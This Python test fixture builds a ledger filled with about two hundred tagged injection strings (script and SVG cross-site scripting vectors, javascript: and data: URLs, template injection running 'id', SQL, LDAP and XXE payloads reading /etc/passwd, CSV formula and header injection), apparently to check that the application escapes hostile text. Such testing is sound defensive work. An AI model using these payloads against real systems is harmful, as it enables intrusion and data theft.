"""Two hundred texts that run a script where a page takes them for more than text, and a ledger that is full of them.

Each carries a word of its own (``zq17q``), so that it can be found again, and sets ``window.__ran`` when it runs.
"""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from hashlib import sha256
from pathlib import Path

from parley.ledger import Ledger
from parley.records import (
    Attribution,
    Claim,
    Correction,
    Document,
    Engagement,
    Judgement,
    Person,
    Place,
    Pledge,
    Position,
    Quote,
    Reading,
    Statement,
)
from parley.records.anchor import Anchor
from parley.records.document import Repair
from parley.terms.when import Interval

JS = "window.__ran=1"
FAR = "//evil.invalid"
_TAGS = (
    f"<script>{JS}</script>",
    f"<ScRiPt >{JS}</sCrIpT >",
    f"<script\x0c>{JS}</script>",
    f"<script/x>{JS}</script>",
    f"<script src={FAR}/a.js></script>",
    f"<script type=module>import '{FAR}/b.js'</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"</script><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</noscript><script>{JS}</script>",
    f"</template><script>{JS}</script>",
    f"</option></select><script>{JS}</script>",
    f"</mark></p></blockquote><script>{JS}</script>",
    f"--><script>{JS}</script><!--",
    f"]]><script>{JS}</script>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<!--><script>{JS}</script>-->",
    f"<?xml version='1.0'?><script>{JS}</script>",
    f"<!DOCTYPE html><script>{JS}</script>",
    f"<noscript><p title='</noscript><script>{JS}</script>'>",
    f"<style>@import '{FAR}/s.css';</style>",
    f"<style>body{{background:url({FAR}/p.png)}}</style>",
    f"<link rel=stylesheet href={FAR}/s.css>",
    f"<base href={FAR}/>",
    f"<meta http-equiv=refresh content='0;url={FAR}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<meta http-equiv='Content-Security-Policy' content=''><script>{JS}</script>",
    f"<iframe src=javascript:{JS}></iframe>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src={FAR}></iframe>",
    f"<object data={FAR}/o.swf></object>",
    f"<embed src={FAR}/e.swf>",
    f"<form action={FAR}><input name=token><button autofocus>go</button></form>",
    f"<input autofocus onfocus={JS}>",
    f"<button formaction=javascript:{JS}>x</button>",
    "<dialog open><h1>Your session has ended</h1></dialog>",
    f"<details open ontoggle={JS}>x</details>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<a href=javascript:{JS}>a link</a>",
    f"<a href='java\tscript:{JS}'>a link</a>",
    f"<a href=' &#106;avascript:{JS}'>a link</a>",
    f"<a href={FAR} target=_blank ping={FAR}/ping>a link</a>",
    f"<img src={FAR}/i.png>",
    f"<img srcset='{FAR}/i.png 1x'>",
    f"<img src=x onerror={JS}>",
    f"<img src=x onerror='{JS}'//",
    f'<img """><script>{JS}</script>">',
    f"<img/src=x/onerror={JS}>",
    f"<img src=x onerror\n=\n{JS}>",
    f"<image src=x onerror={JS}>",
    f"<p onclick={JS} onmouseover={JS} style=position:fixed;inset:0>x</p>",
    f"<x tabindex=0 autofocus onfocus={JS}>",
    f"<body onload={JS}>",
    f"<frameset onload={JS}>",
    f"<template><script>{JS}</script></template>",
    f"<slot name=x><script>{JS}</script></slot>",
    f"<plaintext><script>{JS}</script>",
    f"<xmp><script>{JS}</script></xmp>",
    f"<custom-element onanimationstart={JS}>",
)
_SVG = (
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><script href={FAR}/s.js /></svg>",
    f"<svg><a xlink:href=javascript:{JS}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{JS}></svg>",
    f"<svg><use href='{FAR}/u.svg#x'></svg>",
    f"<svg><foreignObject><script>{JS}</script></foreignObject></svg>",
    f"<svg><image href=x onerror={JS}></svg>",
    f"<svg><style>*{{fill:url({FAR}/f)}}</style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{JS}</script>]]></svg>",
    f"</text></svg><script>{JS}</script>",
    f"</title></svg><img src=x onerror={JS}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{JS}>x</math>",
)
_ATTRIBUTES = (
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'" autofocus onfocus="{JS}" x="',
    f"' autofocus onfocus='{JS}' x='",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f'"/><img src=x onerror={JS}>',
    f"` onmouseover=`{JS}",
    f'" style="background:url({FAR}/p)',
    f'" href="javascript:{JS}',
    f'" srcdoc="<script>{JS}</script>',
    f'\x00" onmouseover="{JS}',
    f'\n" onmouseover="{JS}',
    f'" formaction="javascript:{JS}',
    f"x onmouseover={JS} y",
    f"x\tonerror={JS}\ty",
    f"x/onerror={JS}/",
    f'\\" onmouseover=\\"{JS}',
)
_ADDRESSES = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\nscript:{JS}",
    f"\x01javascript:{JS}",
    f"javascript://%0a{JS}",
    f"javascript&colon;{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={JS}>",
    f"vbscript:{JS}",
    f"{FAR}/path",
    "https://evil.invalid/",
    "\\\\evil.invalid\\share",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "/docs?x=1#y",
    "?page=2&page=3",
    "#c0-10",
    "%00%0d%0aSet-Cookie:%20a=b",
    "%3Cscript%3Ewindow.__ran=1%3C/script%3E",
    "view-source:javascript:1",
    "blob:null/1",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ site.token }}",
    "{{ page.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# hidden #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7}",
    f"${{{JS}}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__ran=1')()}}",
    "%s %d %(name)s {0} {name}",
    "$(touch /tmp/x)",
    "`id`",
    "| cat /etc/passwd",
)
_SCRIPTS = (
    f'</script>{{"a":1}}<script>{JS}',
    f"';{JS};//",
    f'";{JS};//',
    f"\\';{JS};//",
    f"`;{JS};//",
    f"\u2028{JS}\u2029",
    f"*/{JS}/*",
    f"}}{JS}{{",
    '{"__proto__":{"polluted":1}}',
    "__proto__",
    "constructor",
    "toString",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{JS}",
    "[object Object]",
    "null",
    "undefined",
    "NaN",
    ")]}',\n",
    f"javascript:/*--></title></style></textarea></script><svg onload={JS}>",
)
_STYLES = (
    f"expression({JS})",
    f"}}</style><script>{JS}</script>",
    f"background:url(javascript:{JS})",
    f"@import url({FAR}/s.css);",
    "position:fixed;top:0;left:0;width:100%;height:100%",
    "color:red;}*{display:none}",
    f"-moz-binding:url({FAR}/x.xml#x)",
    "var(--paper);display:none",
)
_ENTITIES = (
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{JS}",
    f"&amp;lt;script&amp;gt;{JS}",
    f"&LT;script&GT;{JS}",
    f"＜script＞{JS}＜/script＞",
    f"‹script›{JS}‹/script›",
    f"%253Cscript%253E{JS}",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"\ufeff<script>{JS}</script>",
    f"<\u200bscript>{JS}</script>",
    f"\xadjava\xadscript:{JS}",
)
_MARKS = (
    f"\u202e<script>{JS}</script>",
    "\u2066\u202etpircs\u2069",
    "a\u0301" * 40,
    "\u200b\u200c\u200d\u2060",
    "before\x00after",
    "\x1b[2J\x1b]0;owned\x07",
    "\x07\x08\x0b\x0c\x0e\x7f\x80\x9b31m",
    "\ue000marked\ue001",
    "\ufffe\uffff\U0010ffff",
    "ﷺ" * 20,
    "x" * 3_000,
    "<" * 1_000,
    "\U0001f9d1\u200d\U0001f4bb" * 30,
    "\n\n\n\n",
    "\t \u2003\u3000",
)
_LANGUAGES = (
    "'; DROP TABLE items; --",
    '" OR "1"="1',
    "') OR 1=1 --",
    "title:x NEAR(a b) AND NOT *",
    '"unclosed phrase',
    "a* OR b^2 - {x}",
    f"[a link](javascript:{JS})",
    f"![a picture]({FAR}/i.png)",
    f"[x]: javascript:{JS}",
    f"<javascript:{JS}>",
    f"<{FAR}>",
    "```\n</code></pre>",
    '=HYPERLINK("https://evil.invalid","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.__ran=1</script>",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:more\r\nEND:VEVENT",
    "</entry></feed><script xmlns='http://www.w3.org/1999/xhtml'>window.__ran=1</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "(&(uid=*)(|(a=b)))",
    "' or count(//*)=1 or '",
    '{"$gt": ""}',
)
_SHAPES = (
    *_TAGS,
    *_SVG,
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_TEMPLATES,
    *_SCRIPTS,
    *_STYLES,
    *_ENTITIES,
    *_MARKS,
    *_LANGUAGES,
)
TEXTS: tuple[str, ...] = tuple(f"{shape} zq{number}q" for number, shape in enumerate(_SHAPES))
"""The texts, each with its word; the word stands behind, so that a text begins as an attack would."""

_EACH = 10
"""How many texts a document holds."""
_PARTIES = ("CHN", "USA", "IND", "BRA", "DEU", "ZAF", "JPN", "GBR", "FRA", "CHL")
_KINDS = ("visit", "meeting", "call", "dialogue", "statement", "conference", "hearing", "speech")
_STATUSES = ("trailed", "planned", "under_way", "held", "postponed", "cancelled")
_MEASURES = ("emissions", "emissions_share", "rank_emitter", "change", "coal_capacity", "money", "count", "other")
_PLEDGES = ("net_zero", "peak", "reduction", "share", "capacity", "phase_out", "finance", "other")
_FIRMNESS = ("urged", "proposed", "drafted", "planned", "pledged", "in_policy", "in_law", "achieved")
_STANCES = ("supports", "opposes", "urges", "links", "separates", "claims", "states")


def mark_of(number: int) -> str:
    """The word by which a text is found again."""
    return f"zq{number}q"


def make_hostile_ledger(path: Path) -> None:
    """A ledger in which every field that may hold words holds these, each of them everywhere."""
    with Ledger(path) as ledger:
        readings = [_reading(first) for first in range(0, len(TEXTS), _EACH)]
        for reading in readings:
            ledger.add(reading)
        for number, reading in enumerate(readings):
            _judge(ledger, reading, number)


def _text(number: int) -> str:
    return TEXTS[number % len(TEXTS)]


def _reading(first: int) -> Reading:
    numbers = range(first, min(first + _EACH, len(TEXTS)))
    text = "".join(f"Paragraph {number}: {_text(number)} and no more.\n\n" for number in numbers)
    digest = sha256(text.encode()).hexdigest()
    document = Document(
        id=f"doc_{digest[:12]}",
        source=_text(first + 3),
        title=_text(first + 1),
        publisher=_text(first + 2),
        published=Interval.day(date(2020, 1, 1) + timedelta(days=first)),
        published_basis="inferred",
        published_ground=_text(first + 4),
        text=text,
        sha256=digest,
        offsets=(),
        repairs=(Repair(kind="lost_letter", start=0, end=3, proposal=_text(first + 5)),),
    )
    made = [_Maker(document, number) for number in numbers]
    pledges = tuple(maker.pledge() for maker in made)
    return Reading(
        document=document,
        reader=f"hostile/{_text(first + 6)}",
        people=tuple(maker.person() for maker in made),
        engagements=tuple(maker.engagement() for maker in made),
        pledges=pledges,
        claims=tuple(maker.claim() for maker in made),
        statements=tuple(maker.statement() for maker in made),
        positions=tuple(maker.position() for maker in made),
        corrections=(
            Correction(
                document=document.id,
                quotes=(made[0].quote,),
                touches=(pledges[0].id,),
                inferred=((_text(first), _text(first + 1)),),
            ),
        ),
    )


class _Maker:
    """Makes the records of one text: every field of each has another text, and over all numbers every text."""

    def __init__(self, document: Document, number: int) -> None:
        start = document.text.index(f"Paragraph {number}: ")
        end = document.text.index(" and no more.\n", start)
        self.quote = Quote.of(document.text, start, end)
        self._shared = {"document": document.id, "quotes": (self.quote,)}
        self._number = number

    def person(self) -> Person:
        return Person(
            **self._shared,
            name=self._words(0),
            aliases=(self._words(1), self._words(2)),
            role=self._words(3),
            office=self._words(4),
            organisation=self._words(5),
            party=self._one_of(_PARTIES),
            inferred=((self._words(6), self._words(7)),),
        )

    def engagement(self) -> Engagement:
        day = date(2015, 1, 1) + timedelta(days=17 * self._number)
        return Engagement(
            **self._shared,
            kind=self._one_of(_KINDS),
            status=self._one_of(_STATUSES),
            parties=tuple(sorted({self._one_of(_PARTIES), self._one_of(_PARTIES, 1)})),
            people=(self._words(0), self._words(8)),
            place=Place(city=self._words(9), country="GBR" if self._number % 2 else None),
            when=Interval(day, day + timedelta(days=self._number % 3), "day", self._number % 5 == 0),
            name=self._words(10) if self._number % 2 else None,
            visitor=self._one_of(_PARTIES),
            host=self._one_of(_PARTIES, 1),
            attribution=self._said_by(11),
            inferred=(("when", self._words(12)),),
        )

    def pledge(self) -> Pledge:
        return Pledge(
            **self._shared,
            party=self._one_of(_PARTIES),
            kind=self._one_of(_PLEDGES),
            firmness=self._one_of(_FIRMNESS),
            low=10 + self._number,
            high=10 + self._number,
            unit=self._words(13) if self._number % 2 else "%",
            target_year=2025 + self._number % 40,
            about=self._words(14),
            condition=self._words(15),
            urged_by=(self._words(16), self._words(17)),
            attribution=self._said_by(18),
        )

    def claim(self) -> Claim:
        return Claim(
            **self._shared,
            subject=self._words(19) if self._number % 2 else self._one_of(_PARTIES),
            measure=self._one_of(_MEASURES),
            low=self._number,
            high=self._number,
            unit=self._words(20) if self._number % 3 else "%",
            year=2015,
            written=self._words(21),
            about=self._words(22),
            basis=self._words(23),
            attribution=self._said_by(24),
        )

    def statement(self) -> Statement:
        speech = "quoted" if self._number % 2 else "reported"
        return Statement(**self._shared, speech=speech, attribution=self._said_by(25), cue=self._words(26))

    def position(self) -> Position:
        return Position(
            **self._shared,
            party=self._one_of(_PARTIES),
            issue=self._words(27) if self._number % 2 else "coal",
            stance=self._one_of(_STANCES),
            towards=(self._one_of(_PARTIES, 2),),
            holder=self._words(28),
            attribution=self._said_by(29),
        )

    def _words(self, step: int) -> str:
        return _text(self._number + step * 7)

    def _one_of(self, tokens: tuple[str, ...], step: int = 0):  # type: ignore[no-untyped-def]
        return tokens[(self._number + step) % len(tokens)]

    def _said_by(self, step: int) -> Attribution:
        kind = ("named", "organisation", "anonymous")[self._number % 3]
        return Attribution(kind=kind, name=self._words(step), party=self._one_of(_PARTIES))


def _judge(ledger: Ledger, reading: Reading, number: int) -> None:
    """Notes on everything, and of each document one report rejected and one undoing."""
    at = datetime(2024, 1, 1, tzinfo=UTC) + timedelta(hours=number)
    shared = {"author": _text(number), "time": at}
    for place, report in enumerate((reading.people[0], reading.engagements[1], reading.pledges[2])):
        ledger.judge(
            Judgement(
                verb="note",
                named=(report.id,),
                ones=(Anchor.of(report, reading),),
                text=_text(3 * number + place),
                reason=_text(number + 60 + place),
                **shared,
            )
        )
    gone = reading.claims[-1]
    kept = ledger.judge(
        Judgement(
            verb="reject", named=(gone.id,), ones=(Anchor.of(gone, reading),), reason=_text(number + 90), **shared
        )
    )
    if number % 2:
        ledger.judge(Judgement(verb="undo", named=(kept.id,), undoes=kept.id, reason=_text(number + 120), **shared))
